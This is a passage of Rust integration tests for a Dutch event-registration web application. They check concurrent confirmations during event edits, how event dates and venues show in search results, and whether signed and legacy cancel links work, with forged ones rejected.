        .filter_map(|row| row.text_body.split_once("/aanmelding/bevestigen/"))
        .map(|(_, after)| after.chars().take_while(char::is_ascii_hexdigit).collect())
        .collect();
    assert_eq!(tokens.len(), 40);

    let confirmations = join_all(tokens.iter().map(|token| registrar.confirm(token)));
    let starts = ["09:30", "10:00", "10:30", "11:00", "11:30", "12:00"];
    let moves = join_all(
        starts.iter().map(|start| oogst::events::save_as(&db, &mail, &organiser, Some(&saved.slug), input(start))),
    );
    let (confirmations, moves) = futures_util::join!(confirmations, moves);
    for outcome in &confirmations {
        assert!(outcome.is_ok(), "{outcome:?}");
    }
    for outcome in &moves {
        assert!(outcome.is_ok(), "{outcome:?}");
    }
    let row = event::Entity::find_by_id(saved.id).one(&db).await.unwrap().unwrap();
    assert_eq!(row.confirmed, 30);
    let counts = statuses_in(&db, saved.id).await;
    assert_eq!((counts.get("confirmed"), counts.get("waitlisted")), (Some(&30), Some(&10)), "{counts:?}");
}
storage_test!(organiser_edits_while_people_confirm);

/// The paragraph with the date and place of the search hit linking to `url`.
fn hit_meta<'a>(page: &'a str, url: &str) -> &'a str {
    let hit = &page[page.find(&format!("href=\"{url}\"")).unwrap_or_else(|| panic!("no hit {url}: {page}"))..];
    let meta = &hit[hit.find("<p class=\"meta\">").unwrap()..];
    &meta[..meta.find("</p>").unwrap()]
}

/// An event found in the search shows when and where it takes place, not the day it was
/// stored and its organiser's province; other hits keep their publication date and province.
async fn event_hits_show_their_date_and_venue(backend: Backend) {
    let env = TestEnv::new(backend).await;
    let app = env.spawn(true).await;
    let bureau = token_for(&app, "bureau@oogst.test", Role::Beheerder, None).await;
    let created = create_event(
        &app,
        &bureau,
        json!({
            "title": "Verdiepingsochtend hoogbegaafdheid", "kind": "verdiepingsochtend",
            "description": "Over hoogbegaafde thuiszitters.", "organisation": "gemeente-gorinchem",
            "starts_at": "2027-03-09T09:30", "ends_at": "2027-03-09T12:30",
            "location": "Stadskantoor Utrecht", "address": "Stadsplateau 1, Utrecht", "capacity": 40,
        }),
    )
    .await;
    let url = format!("/agenda/{}", created["slug"].as_str().unwrap());
    app.wait_for_search("q=hoogbegaafdheid&kind=event", std::time::Duration::from_secs(5), |slugs| slugs.len() == 1)
        .await;

    let hit = app.search("q=hoogbegaafdheid&kind=event").await["hits"][0].clone();
    assert_eq!(hit["date"], "2027-03-09T08:30:00Z", "{hit}");
    assert_eq!(hit["place"], "Stadskantoor Utrecht", "{hit}");
    let page = app.get("/zoeken?q=hoogbegaafdheid").await.text().await.unwrap();
    let meta = hit_meta(&page, &url);
    assert!(meta.contains("9 maart 2027") && meta.contains("Stadskantoor Utrecht"), "{meta}");
    assert!(!meta.contains("Zuid-Holland"), "{meta}");

    // A practice still shows its province and publication date.
    let practice = app.search("q=dokwerk&kind=practice").await["hits"][0].clone();
    assert_eq!(practice["place"], practice["province"], "{practice}");
    assert!(practice["date"].as_str().unwrap() < "2027", "{practice}");

    // Sorted by date, the event that starts last comes first.
    let sorted = app.search("kind=event&sort=date&per_page=100").await;
    let dates: Vec<&str> = sorted["hits"].as_array().unwrap().iter().map(|hit| hit["date"].as_str().unwrap()).collect();
    assert!(dates.windows(2).all(|pair| pair[0] >= pair[1]), "{dates:?}");

    app.stop().await;
    env.finish().await;
}
storage_test!(event_hits_show_their_date_and_venue);

/// Opens a cancel link in a new browser and, if it shows the question, answers it; returns
/// the page it ends on.
async fn cancel_with(app: &TestApp, token: &str) -> (u16, String) {
    let browser = app.browser();
    let path = format!("/aanmelding/annuleren/{token}");
    let question = browser.get(format!("{}{path}", app.address)).send().await.unwrap();
    let status = question.status().as_u16();
    let page = question.text().await.unwrap();
    if status != 200 {
        return (status, page);
    }
    let answer = post_with(app, &browser, &hidden_field(&page, "csrf"), &path).await;
    (answer.status().as_u16(), answer.text().await.unwrap())
}

/// Every cancel link a person received works as long as the registration exists: the
/// one in the confirmation request still works after confirming and after later mails,
/// and so does a link mailed before cancel links were signed.
async fn every_cancel_link_works_while_registered(backend: Backend) {
    let env = TestEnv::new(backend).await;
    let (app, smtp) = app_with_mail(&env).await;
    let bureau = token_for(&app, "bureau@oogst.test", Role::Beheerder, None).await;
    let created = create_event(
        &app,
        &bureau,
        json!({
            "title": "Werkbezoek Dokwerk", "kind": "werkbezoek", "description": "Een ochtend op de praktijkschool.",
            "starts_at": "2027-04-13T09:00", "ends_at": "2027-04-13T12:00",
            "location": "Praktijkschool De Rotonde", "address": "Banneweg 2, Gorinchem", "capacity": 10,
        }),
    )
    .await;
    let slug = created["slug"].as_str().unwrap().to_string();
    let db = oogst::startup::connect(&app.config).await.unwrap();
    let event_id = event::Entity::find().filter(event::Column::Slug.eq(&slug)).one(&db).await.unwrap().unwrap().id;

    let (status, body) = register(&app, &slug, person(1, &[])).await;
    assert_eq!(status, 201, "{body}");
    let request = smtp.wait_for("deelnemer1@", 1).await.remove(0);
    let first_cancel = token_in(&request, "/aanmelding/annuleren/");
    let browser = app.browser();
    let confirm_path = format!("/aanmelding/bevestigen/{}", token_in(&request, "/aanmelding/bevestigen/"));
    let page = browser.get(format!("{}{confirm_path}", app.address)).send().await.unwrap().text().await.unwrap();
    let confirmed = post_with(&app, &browser, &hidden_field(&page, "csrf"), &confirm_path).await;
    assert!(confirmed.text().await.unwrap().contains("U bent aangemeld"));
    // Registering the address again mails a notice; every mail carries the same link.
    register(&app, &slug, person(1, &[])).await;
    let mails = smtp.wait_for("deelnemer1@", 3).await;
    for mail in &mails {
        assert_eq!(token_in(mail, "/aanmelding/annuleren/"), first_cancel, "{}", mail.header("Subject"));
    }

    let (status, page) = cancel_with(&app, &first_cancel).await;
    assert_eq!(status, 200, "{page}");
    assert_eq!(statuses_in(&db, event_id).await["cancelled"], 1);
    let (status, page) = cancel_with(&app, &first_cancel).await;
    assert_eq!(status, 410, "a cancelled registration's link is done: {page}");
    let forged = format!("{}-{}", first_cancel.split('-').next().unwrap(), "ab".repeat(32));
    assert_eq!(cancel_with(&app, &forged).await.0, 410);

    // A registration from before signed links keeps the link it was mailed last.
    let (status, body) = register(&app, &slug, person(2, &[])).await;
    assert_eq!(status, 201, "{body}");
    let row = registration::Entity::find()
        .filter(registration::Column::Email.eq("deelnemer2@deelnemer.test"))
        .one(&db)
        .await
        .unwrap()
        .unwrap();
    let old_token = "0f".repeat(32);
    let mut old = registration::ActiveModel::from(row);
    old.cancel_token_hash = sea_orm::Set(hex::encode(<sha2::Sha256 as sha2::Digest>::digest(old_token.as_bytes())));
    sea_orm::ActiveModelTrait::update(old, &db).await.unwrap();
    let (status, page) = cancel_with(&app, &old_token).await;
    assert_eq!(status, 200, "{page}");
    assert_eq!(statuses_in(&db, event_id).await["cancelled"], 2);

    app.stop().await;
    env.finish().await;
}
storage_test!(every_cancel_link_works_while_registered);
